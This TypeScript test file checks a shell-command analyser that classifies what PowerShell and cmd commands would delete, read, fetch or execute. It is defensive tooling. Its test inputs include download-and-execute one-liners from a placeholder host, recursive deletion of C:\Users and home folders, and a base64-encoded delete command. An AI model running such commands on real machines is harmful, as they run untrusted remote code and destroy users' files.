import { expect, test } from 'vitest';
import { commandsOf, effectsOf, unknownsOf } from '../../test/read.ts';

test.each<[string, string, string[]]>([
  ['names and parameters in any case', 'REMOVE-ITEM -Recurse build', ['delete /work/project/build project']],
  ['aliases', 'ri -r build; gc a.txt', ['delete /work/project/build project', 'read /work/project/a.txt project']],
  ['the home directory', String.raw`rm -r ~\x`, ['delete /home/me/x home']],
  ['drives', String.raw`Remove-Item -Recurse C:\Users`, ['delete C:/Users system']],
  ['values of variables', "$x = 'a'; Remove-Item $x", ['delete /work/project/a project']],
  ['script blocks', 'ls | % { Remove-Item ~/x -Recurse }', ['read /work/project project?', 'delete /home/me/x home']],
  ['conditions', "if (Test-Path x) { del x } else { 'no' }", ['delete /work/project/x project']],
  [
    'downloads that run',
    "iex (New-Object Net.WebClient).DownloadString('http://x.example/a')",
    ['fetch http://x.example/a remote', 'execute http://x.example/a remote download'],
  ],
  [
    'what a download was written to',
    'iwr https://x.example -OutFile a.exe; ./a.exe',
    [
      'fetch https://x.example remote',
      'write /work/project/a.exe project',
      'execute /work/project/a.exe project download',
    ],
  ],
  ['-WhatIf as a question', 'Remove-Item -Recurse C:/x -WhatIf', []],
  ['quotes as text', "git commit -m 'rm -r ~'", []],
  ['comments as nothing', '# Remove-Item ~\n<# del ~ #>', []],
  ['here-strings as text', "Write-Output @'\nRemove-Item ~\n'@", []],
])('PowerShell: reads %s', (_title, text, effects) => {
  expect(effectsOf(text, { shell: 'powershell' })).toEqual(effects.filter((effect) => !effect.endsWith('project?')));
});

test.each<[string, string, string[]]>([
  ['switches', String.raw`del /s /q C:\x\*`, ['delete C:/x/* system']],
  ['several commands', 'dir & rd /s /q build', ['delete /work/project/build project']],
  ['conditions', 'if exist x del /q x', ['delete /work/project/x project']],
  ['loops', 'for %i in (a b) do del x', ['delete /work/project/x project']],
  ['redirections', 'echo %PATH% > a.txt', ['write /work/project/a.txt project']],
  ['escapes', 'echo a ^& del x', []],
])('cmd: reads %s', (_title, text, effects) => {
  expect(effectsOf(text, { shell: 'cmd' })).toEqual(effects);
});

test.each([
  ['powershell -NoProfile -Command "Remove-Item -Recurse ~/x"', ['delete /home/me/x home']],
  ['pwsh -c "rm -r ~/x"', ['delete /home/me/x home']],
  ['cmd /c "rd /s /q C:\\\\x"', ['delete C:/x system']],
  ['wsl rm -rf ~/x', ['delete /home/me/x home']],
])('%s is read by the other shell', (text, effects) => {
  expect(effectsOf(text)).toEqual(effects);
});

test('an encoded command is decoded', () => {
  expect(effectsOf('powershell -enc cgBtACAALQByACAAfgAvAHgA')).toContain('delete /home/me/x home');
});

test('a path is in the project of Windows', () => {
  const place = { project: 'C:\\work', cwd: 'C:\\work', home: 'C:\\Users\\me', shell: 'powershell' } as const;
  expect(effectsOf('Remove-Item -Recurse build', place)).toEqual(['delete C:/work/build project']);
  expect(effectsOf('Remove-Item -Recurse ..\\other', place)).toEqual(['delete C:/other system']);
  expect(effectsOf('Remove-Item -Recurse C:\\Users\\me\\x', place)).toEqual(['delete C:/Users/me/x home']);
});

test('ordinary work has no unknown parts', () => {
  for (const text of [
    "$env:NODE_ENV = 'test'; npx vitest run",
    'Get-ChildItem -Recurse -Filter *.ts | Select-String "foo" | Measure-Object',
    'Get-Process | Where-Object { $_.CPU -gt 10 } | Sort-Object CPU',
    'npm ci; if ($LASTEXITCODE -ne 0) { exit 1 }',
  ]) {
    expect(unknownsOf(text, { shell: 'powershell' })).toEqual([]);
    expect(
      effectsOf(text, { shell: 'powershell' }).filter((effect) => /delete|machine|configuration/.test(effect)),
    ).toEqual([]);
  }
});

test('is linear', () => {
  const started = performance.now();
  for (const part of ["'a' ", '$x ', '{ a } ', '# b\n', 'del x; '])
    commandsOf(part.repeat(1500), { shell: 'powershell' });
  expect(performance.now() - started).toBeLessThan(8000);
});
